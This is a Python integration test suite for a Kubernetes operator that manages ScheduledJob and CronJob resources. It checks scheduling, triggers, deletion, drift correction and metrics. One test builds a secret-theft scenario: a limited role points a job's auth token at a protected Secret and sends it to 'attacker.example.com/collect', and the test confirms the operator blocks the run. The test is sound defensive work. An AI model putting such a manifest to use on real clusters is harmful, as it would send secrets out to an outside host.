"""The operator core on a real API server: ScheduledJob -> CronJob, enable/disable, trigger, status, delete."""

import json
import time
from typing import Any

import pytest

from tests.support import manifests
from tests.support.cluster import Cluster, OperatorProcess, wait_until
from tests.unit.bad_manifests import BAD_MANIFESTS

pytestmark = pytest.mark.integration


def scheduledjob(namespace: str, name: str = "nightly", **spec: Any) -> dict[str, Any]:
    return manifests.scheduledjob(name, namespace, **{
        "schedule": "30 2 * * *",
        "timeZone": "Europe/Amsterdam",
        "flow": {"endpoint": "https://flows.example.com/api/v1/flow/run", "settings": {"tags": ["a"]}},
        **spec,
    })


def apply(cluster: Cluster, manifest: dict[str, Any]) -> None:
    cluster.kubectl("apply", "-f", "-", input=json.dumps(manifest))


def merge_patch(cluster: Cluster, namespace: str, name: str, spec: dict[str, Any]) -> None:
    cluster.kubectl("-n", namespace, "patch", "sj", name, "--type", "merge", "-p", json.dumps({"spec": spec}))


def settled_status(cluster: Cluster, namespace: str, name: str, **expected: Any) -> dict[str, Any]:
    """Wait until the status has caught up with the current generation and has `expected` values."""

    def probe() -> dict[str, Any] | None:
        sj = cluster.get_json("-n", namespace, "sj", name)
        status = sj.get("status") or {}
        if status.get("observedGeneration") != sj["metadata"]["generation"]:
            return None
        return status if all(status.get(k) == v for k, v in expected.items()) else None

    return wait_until(f"status of {name} with {expected}", probe, timeout=30)


def cronjob(cluster: Cluster, namespace: str, name: str = "nightly") -> dict[str, Any]:
    def probe() -> dict[str, Any] | None:
        r = cluster.kubectl("-n", namespace, "get", "cronjob", name, "-o", "json", check=False)
        if r.returncode != 0:
            return None
        found: dict[str, Any] = json.loads(r.stdout)
        return found

    return wait_until(f"CronJob {name}", probe, timeout=30)


def jobs(cluster: Cluster, namespace: str) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = cluster.get_json("-n", namespace, "jobs")["items"]
    return items


def usable_secret(cluster: Cluster, namespace: str, name: str, *literals: str, usable: bool = True) -> None:
    cluster.kubectl("-n", namespace, "create", "secret", "generic", name, *(f"--from-literal={x}" for x in literals))
    if usable:
        cluster.kubectl("-n", namespace, "label", "secret", name, "cronflow.dev/usable=true")


def test_apply_creates_an_owned_hardened_cronjob_and_status(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    usable_secret(cluster, namespace, "flow-token", "token=t0k3n")
    apply(cluster, scheduledjob(namespace, flow={
        "endpoint": "https://flows.example.com/run", "authTokenSecretRef": {"name": "flow-token", "key": "token"}}))
    status = settled_status(cluster, namespace, "nightly", state="ENABLED", mode="Schedule")
    cj = cronjob(cluster, namespace)
    sj = cluster.get_json("-n", namespace, "sj", "nightly")

    assert cj["spec"]["schedule"] == "30 2 * * *"
    assert cj["spec"]["timeZone"] == "Europe/Amsterdam"
    assert cj["spec"]["suspend"] is False
    assert cj["metadata"]["ownerReferences"][0]["uid"] == sj["metadata"]["uid"]
    assert cj["metadata"]["labels"]["cronflow.dev/scheduledjob"] == "nightly"
    pod = cj["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    container = pod["containers"][0]
    assert container["image"] == "cronflow-job:dev"
    assert pod["automountServiceAccountToken"] is False
    assert container["securityContext"]["readOnlyRootFilesystem"] is True
    token_env = next(e for e in container["env"] if e["name"] == "CRONFLOW_AUTH_TOKEN")
    assert token_env["valueFrom"]["secretKeyRef"] == {"name": "flow-token", "key": "token"}
    assert "flow-token" not in json.dumps(status)

    ready = next(c for c in status["conditions"] if c["type"] == "Ready")
    assert (ready["status"], ready["reason"]) == ("True", "Reconciled")
    assert status["cronJobName"] == "nightly"
    assert status["nextScheduleTime"].endswith(("00:30:00Z", "01:30:00Z"))  # 02:30 Amsterdam in UTC


def test_schedule_change_updates_the_cronjob(cluster: Cluster, namespace: str, operator: OperatorProcess) -> None:
    apply(cluster, scheduledjob(namespace))
    settled_status(cluster, namespace, "nightly", state="ENABLED")
    merge_patch(cluster, namespace, "nightly", {"schedule": "*/15 * * * *", "timeZone": "Etc/UTC"})
    settled_status(cluster, namespace, "nightly")
    cj = wait_until(
        "the CronJob's new schedule",
        lambda: (c := cronjob(cluster, namespace))["spec"]["schedule"] == "*/15 * * * *" and c,
    )
    assert cj["spec"]["timeZone"] == "Etc/UTC"


def test_disable_suspends_the_cronjob_and_enable_resumes_it(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    apply(cluster, scheduledjob(namespace))
    settled_status(cluster, namespace, "nightly", state="ENABLED")

    merge_patch(cluster, namespace, "nightly", {"enabled": False})
    status = settled_status(cluster, namespace, "nightly", state="DISABLED")
    assert cronjob(cluster, namespace)["spec"]["suspend"] is True
    assert "nextScheduleTime" not in status

    merge_patch(cluster, namespace, "nightly", {"enabled": True})
    status = settled_status(cluster, namespace, "nightly", state="ENABLED")
    assert cronjob(cluster, namespace)["spec"]["suspend"] is False
    assert status["nextScheduleTime"]


def test_trigger_creates_exactly_one_job_also_while_disabled_and_after_restart(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    apply(cluster, scheduledjob(namespace, enabled=False))
    settled_status(cluster, namespace, "nightly", state="DISABLED")

    merge_patch(cluster, namespace, "nightly", {"trigger": "run-1"})
    settled_status(cluster, namespace, "nightly", lastTrigger="run-1")
    created = jobs(cluster, namespace)
    assert len(created) == 1
    job = created[0]
    assert job["metadata"]["annotations"]["cronflow.dev/trigger"] == "Manual"
    assert job["metadata"]["annotations"]["cronflow.dev/trigger-token"] == "run-1"
    assert "cronflow.dev/result" in job["metadata"]["finalizers"]

    operator.restart()
    apply(cluster, scheduledjob(namespace, enabled=False, trigger="run-1"))  # the same token again
    time.sleep(3)
    assert [j["metadata"]["name"] for j in jobs(cluster, namespace)] == [job["metadata"]["name"]]

    merge_patch(cluster, namespace, "nightly", {"trigger": "run-2"})
    settled_status(cluster, namespace, "nightly", lastTrigger="run-2")
    assert len(jobs(cluster, namespace)) == 2


def test_trigger_made_while_the_operator_was_down_runs_once_when_it_is_back(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    apply(cluster, scheduledjob(namespace))
    settled_status(cluster, namespace, "nightly", state="ENABLED")
    operator.stop(kill=True)
    merge_patch(cluster, namespace, "nightly", {"trigger": "while-down"})
    operator.start()
    settled_status(cluster, namespace, "nightly", lastTrigger="while-down")
    assert len(jobs(cluster, namespace)) == 1


def test_delete_removes_everything_it_owns(cluster: Cluster, namespace: str, operator: OperatorProcess) -> None:
    apply(cluster, scheduledjob(namespace, trigger="now"))
    settled_status(cluster, namespace, "nightly", lastTrigger="now")
    cronjob(cluster, namespace)
    cluster.kubectl("-n", namespace, "delete", "sj", "nightly", "--wait=true", "--timeout=60s")
    wait_until(
        "CronJob and Jobs gone",
        lambda: not cluster.get_json("-n", namespace, "cronjobs")["items"] and not jobs(cluster, namespace),
        timeout=60,
    )


def test_spec_the_schema_cannot_check_gets_ready_false_and_an_event(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    apply(cluster, scheduledjob(namespace, timeZone="Mars/Olympus_Mons"))
    status = settled_status(cluster, namespace, "nightly")
    ready = next(c for c in status["conditions"] if c["type"] == "Ready")
    assert (ready["status"], ready["reason"]) == ("False", "InvalidSpec")
    assert "Mars/Olympus_Mons" in ready["message"]
    events = wait_until(
        "an InvalidSpec event",
        lambda: [e for e in cluster.get_json("-n", namespace, "events")["items"] if e["reason"] == "InvalidSpec"],
    )
    assert events[0]["type"] == "Warning"
    assert not cluster.get_json("-n", namespace, "cronjobs")["items"]
    assert operator.proc is not None and operator.proc.poll() is None  # no crash


def test_restart_with_nothing_changed_writes_nothing(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    for i in range(3):
        apply(cluster, scheduledjob(namespace, name=f"job-{i}", enabled=i != 1))
    for i in range(3):
        settled_status(cluster, namespace, f"job-{i}")
        cronjob(cluster, namespace, f"job-{i}")
    time.sleep(2)
    mark = cluster.audit_offset()
    operator.restart()
    time.sleep(5)
    reads = cluster.operator_requests(mark, namespace)
    assert reads, "the restarted operator should have listed the namespace (audit log is read correctly)"
    assert cluster.operator_writes(mark, namespace) == []


@pytest.mark.parametrize("case", BAD_MANIFESTS, ids=[c[0] for c in BAD_MANIFESTS])
def test_api_server_rejects_invalid_manifest_with_a_readable_message(
    cluster: Cluster, crd: None, namespace: str, case: tuple[str, dict[str, Any], str]
) -> None:
    _, manifest, expected = case
    manifest = {**manifest, "metadata": {**manifest.get("metadata", {}), "namespace": namespace}}
    result = cluster.kubectl("apply", "--dry-run=server", "-f", "-", input=json.dumps(manifest), check=False)
    assert result.returncode != 0, f"accepted: {manifest}"
    assert expected in result.stderr


def test_metrics_count_reconciles_by_result(cluster: Cluster, namespace: str, operator: OperatorProcess) -> None:
    apply(cluster, scheduledjob(namespace, name="good"))
    apply(cluster, scheduledjob(namespace, name="bad", timeZone="Mars/Olympus_Mons"))
    settled_status(cluster, namespace, "good", state="ENABLED")
    settled_status(cluster, namespace, "bad")
    samples = {
        line.split(" ")[0]: float(line.split(" ")[1])
        for line in operator.metrics().splitlines() if line.startswith("cronflow_reconcile")
    }
    # Each of the two has had at least one pass (an own status write brings one more, which writes nothing).
    assert samples['cronflow_reconciles_total{result="ok"}'] >= 1
    assert samples['cronflow_reconciles_total{result="invalid"}'] >= 1
    assert samples["cronflow_reconcile_duration_seconds_count"] >= 2


# Level-triggered: what exists is compared with what should, so hand edits are put back.

def events_with_reason(cluster: Cluster, namespace: str, reason: str) -> list[dict[str, Any]]:
    return [e for e in cluster.get_json("-n", namespace, "events")["items"] if e["reason"] == reason]


def test_cronjob_deleted_by_hand_is_recreated(cluster: Cluster, namespace: str, operator: OperatorProcess) -> None:
    apply(cluster, scheduledjob(namespace))
    settled_status(cluster, namespace, "nightly", state="ENABLED")
    old = cronjob(cluster, namespace)
    cluster.kubectl("-n", namespace, "delete", "cronjob", "nightly", "--wait=true")
    started = time.monotonic()
    back = wait_until(
        "a new CronJob",
        lambda: (c := cronjob(cluster, namespace))["metadata"]["uid"] != old["metadata"]["uid"] and c,
        timeout=20,
    )
    print(f"CronJob deleted -> back in {time.monotonic() - started:.2f} s")
    sj = cluster.get_json("-n", namespace, "sj", "nightly")
    assert back["metadata"]["ownerReferences"][0]["uid"] == sj["metadata"]["uid"]
    assert back["spec"]["suspend"] is False


def test_cronjob_unsuspended_by_hand_while_disabled_is_suspended_again(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    apply(cluster, scheduledjob(namespace, enabled=False))
    settled_status(cluster, namespace, "nightly", state="DISABLED")
    cluster.kubectl("-n", namespace, "patch", "cronjob", "nightly", "-p", '{"spec":{"suspend":false}}')
    wait_until("the CronJob suspended again", lambda: cronjob(cluster, namespace)["spec"]["suspend"] is True,
               timeout=20)


def test_cronjob_edited_by_hand_is_put_back(cluster: Cluster, namespace: str, operator: OperatorProcess) -> None:
    apply(cluster, scheduledjob(namespace))
    settled_status(cluster, namespace, "nightly", state="ENABLED")
    patch = [{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/image", "value": "evil:1"},
             {"op": "replace", "path": "/spec/schedule", "value": "* * * * *"}]
    cluster.kubectl("-n", namespace, "patch", "cronjob", "nightly", "--type", "json", "-p", json.dumps(patch))

    def restored() -> bool:
        spec = cronjob(cluster, namespace)["spec"]
        image = spec["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"]
        return bool(image == "cronflow-job:dev" and spec["schedule"] == "30 2 * * *")

    wait_until("the CronJob as the ScheduledJob says", restored, timeout=20)


def test_replace_force_ends_with_a_cronjob_owned_by_the_new_scheduledjob(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    manifest = scheduledjob(namespace)
    apply(cluster, manifest)
    settled_status(cluster, namespace, "nightly", state="ENABLED")
    cronjob(cluster, namespace)
    cluster.kubectl("replace", "--force", "-f", "-", input=json.dumps(manifest))
    new_uid = wait_until(
        "the new ScheduledJob's status", lambda: settled_status(cluster, namespace, "nightly")
        and cluster.get_json("-n", namespace, "sj", "nightly")["metadata"]["uid"],
    )

    def owned_by_new() -> bool:
        r = cluster.kubectl("-n", namespace, "get", "cronjob", "nightly", "-o", "json", check=False)
        if r.returncode != 0:
            return False
        cj = json.loads(r.stdout)
        return bool(cj["metadata"]["ownerReferences"][0]["uid"] == new_uid
                    and not cj["metadata"].get("deletionTimestamp"))

    wait_until("a CronJob owned by the new ScheduledJob", owned_by_new, timeout=30)
    time.sleep(5)  # the garbage collector has had its chance to remove the old one
    assert owned_by_new()


def test_a_spec_the_api_server_refuses_gives_apply_failed_once_and_no_retry_loop(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    resources = {"requests": {"cpu": "2"}, "limits": {"cpu": "1"}}
    apply(cluster, scheduledjob(namespace, jobTemplate={"resources": resources}))

    def refused() -> dict[str, Any] | None:
        status = cluster.get_json("-n", namespace, "sj", "nightly").get("status") or {}
        ready = next((c for c in status.get("conditions") or [] if c["type"] == "Ready"), None)
        return ready if ready and ready["reason"] == "ApplyFailed" else None

    ready = wait_until("Ready=False ApplyFailed", refused, timeout=30)
    assert ready["status"] == "False"
    assert "must be less than or equal to cpu limit" in ready["message"]
    assert ready["observedGeneration"] == 1
    wait_until("the ApplyFailed Event", lambda: events_with_reason(cluster, namespace, "ApplyFailed"))
    mark = cluster.audit_offset()
    time.sleep(6)
    assert cluster.operator_writes(mark, namespace) == [], "a refused apply must not be retried in a loop"
    assert len(events_with_reason(cluster, namespace, "ApplyFailed")) == 1

    merge_patch(cluster, namespace, "nightly", {"jobTemplate": None})
    status = settled_status(cluster, namespace, "nightly")
    ready = next(c for c in status["conditions"] if c["type"] == "Ready")
    assert (ready["status"], ready["reason"]) == ("True", "Reconciled")
    cronjob(cluster, namespace)


def test_a_created_scheduledjob_costs_two_writes(cluster: Cluster, namespace: str, operator: OperatorProcess) -> None:
    mark = cluster.audit_offset()
    apply(cluster, scheduledjob(namespace))
    settled_status(cluster, namespace, "nightly", state="ENABLED")
    cronjob(cluster, namespace)
    time.sleep(3)
    writes = sorted(cluster.operator_writes(mark, namespace))
    assert writes == ["patch cronjobs/nightly", "patch scheduledjobs/statusnightly"]


def ready_of(cluster: Cluster, namespace: str, name: str = "nightly") -> dict[str, Any]:
    status = cluster.get_json("-n", namespace, "sj", name).get("status") or {}
    ready: dict[str, Any] = next((c for c in status.get("conditions") or [] if c["type"] == "Ready"), {})
    return ready


def test_a_role_that_cannot_read_secrets_cannot_make_a_run_read_one(
    cluster: Cluster, namespace: str, operator: OperatorProcess
) -> None:
    usable_secret(cluster, namespace, "team-token", "token=PLANTED-not-for-you", usable=False)
    author = "sj-author"
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
            "metadata": {"name": author, "namespace": namespace},
            "rules": [{"apiGroups": ["cronflow.dev"], "resources": ["scheduledjobs"],
                       "verbs": ["get", "list", "create", "patch"]}]}
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
               "metadata": {"name": author, "namespace": namespace},
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": author},
               "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": author}]}
    for manifest in (role, binding):
        apply(cluster, manifest)
    assert cluster.kubectl("--as", author, "-n", namespace, "get", "secret", "team-token", check=False).returncode != 0

    stolen = scheduledjob(namespace, trigger="now", flow={
        "endpoint": "https://attacker.example.com/collect",
        "authTokenSecretRef": {"name": "team-token", "key": "token"}})
    cluster.kubectl("--as", author, "apply", "-f", "-", input=json.dumps(stolen))
    ready = wait_until("Ready=False SecretNotUsable",
                       lambda: (r := ready_of(cluster, namespace)).get("reason") == "SecretNotUsable" and r)
    assert "team-token" in ready["message"] and "PLANTED" not in json.dumps(ready)
    assert cronjob(cluster, namespace)["spec"]["suspend"] is True
    time.sleep(2)
    assert jobs(cluster, namespace) == [], "no run may start that would read the Secret"
    assert events_with_reason(cluster, namespace, "TriggerFailed")

    cluster.kubectl("-n", namespace, "label", "secret", "team-token", "cronflow.dev/usable=true")
    wait_until("Ready=True once the Secret is labelled", lambda: ready_of(cluster, namespace).get("status") == "True",
               timeout=45)
    assert cronjob(cluster, namespace)["spec"]["suspend"] is False
